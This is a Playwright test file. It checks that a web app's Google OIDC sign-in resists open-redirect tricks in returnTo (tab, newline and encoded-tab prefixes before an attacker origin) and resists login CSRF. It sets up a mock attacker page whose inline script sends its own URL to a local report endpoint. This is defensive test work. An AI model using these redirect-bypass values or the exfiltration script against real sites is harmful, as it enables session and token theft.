import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { startTestOidcProvider, type TestOidcProvider } from '../../server/src/testing/testOidcProvider';
import { OwnTestServer } from '../helpers/ownServer';

/**
 * Google sign-in in Chromium against a real OpenID provider on 127.0.0.1 (issue 30 items 1-2):
 * a hostile `returnTo` cannot carry the session to another site, and a callback URL made in
 * another browser (login CSRF) signs nobody in. This spec runs its own server beside the shared one.
 */
const PORT = (Number(process.env.E2E_PORT) || 4180) + 3; // each spec's own server has its own port: two specs run at once
const BASE = `http://127.0.0.1:${PORT}`;

let idp: TestOidcProvider;
let server: OwnTestServer;
/** The attacker's site: a page that reads its own URL (fragment included) and reports it home. */
let attacker: Server;
let attackerOrigin = '';
const stolen: string[] = [];

test.beforeAll(async () => {
  test.setTimeout(480_000);
  idp = await startTestOidcProvider([`${BASE}/api/account/oidc/google/callback`]);
  attacker = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://attacker');
    if (url.pathname === '/report') {
      stolen.push(url.searchParams.get('href') ?? '');
      res.end('ok');
      return;
    }
    stolen.push(`visited ${url.pathname}`);
    res.setHeader('content-type', 'text/html');
    res.end('<!doctype html><title>attacker</title><script>fetch("/report?href=" + encodeURIComponent(location.href))</script>');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  server = await OwnTestServer.create(PORT, {
    // No jobs here: no models to load, a quick start on a busy machine.
    name: 'oidc',
    env: { WORKERS: '0', OIDC_GOOGLE_ISSUER: idp.issuer, OIDC_GOOGLE_CLIENT_ID: idp.clientId, OIDC_GOOGLE_CLIENT_SECRET: idp.clientSecret },
  });
  // On a loaded machine the start can take longer than the helper's two minutes: keep waiting for the same process.
  await server.start().catch(() =>
    expect
      .poll(
        () =>
          fetch(`${BASE}/api/health`).then(
            (r) => r.ok,
            () => false,
          ),
        { timeout: 300_000 },
      )
      .toBe(true),
  );
});

test.afterAll(async () => {
  await server?.dispose(test.info().status !== test.info().expectedStatus);
  await idp?.close();
  await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
});

for (const [name, returnTo] of [
  ['a tab', '/\t/'],
  ['a newline', '/\n/'],
  ['an encoded tab', '/%09/'],
] as const) {
  test(`a sign-in link whose returnTo hides another site behind ${name} signs the victim in here and sends nothing there`, async ({ page }) => {
    stolen.length = 0;
    idp.signInAs({ sub: `victim-${name}`, email: 'victim@example.org', emailVerified: true });
    // The attacker sends the victim this link; the victim signs in at the (real) provider.
    const link = `${BASE}/api/account/oidc/google/start?returnTo=${encodeURIComponent(`${returnTo}${attackerOrigin}/steal`)}`;
    await page.goto(link);
    await expect(page.getByTestId('header.account')).toContainText('victim@example.org');
    expect(new URL(page.url()).host).toBe(`127.0.0.1:${PORT}`);
    // Nothing of the sign-in is left in the address bar, and the attacker's site saw nothing.
    expect(page.url()).not.toMatch(/loginCode|login=/);
    await page.waitForTimeout(500);
    expect(stolen).toEqual([]);
    // The session works: the account page shows the address.
    await page.goto(`${BASE}/en/account`);
    await expect(page.getByTestId('header.account')).toContainText('victim@example.org');
  });
}

test("login CSRF: a callback URL made in the attacker's browser does not sign the victim into the attacker's account", async ({ page }) => {
  idp.signInAs({ sub: 'attacker-1', email: 'attacker@example.org', emailVerified: true });
  // The attacker starts a sign-in of their own (here from Node) and stops at the callback URL.
  const start = await fetch(`${BASE}/api/account/oidc/google/start?returnTo=%2Fen%2Fcreate`, { redirect: 'manual' });
  const callbackUrl = (await idp.browse(start.headers.get('location')!)).href;
  expect(callbackUrl).toContain('state=');

  // The victim opens it (a link, an image, a hidden frame): refused, still signed out.
  await page.goto(callbackUrl);
  await expect(page).toHaveURL(/\/en\/log-in/);
  await expect(page.getByTestId('header.signIn')).toBeVisible();
  await expect(page.getByTestId('header.account')).toHaveCount(0);
  expect(await page.evaluate(() => localStorage.getItem('authToken'))).toBeNull();
});
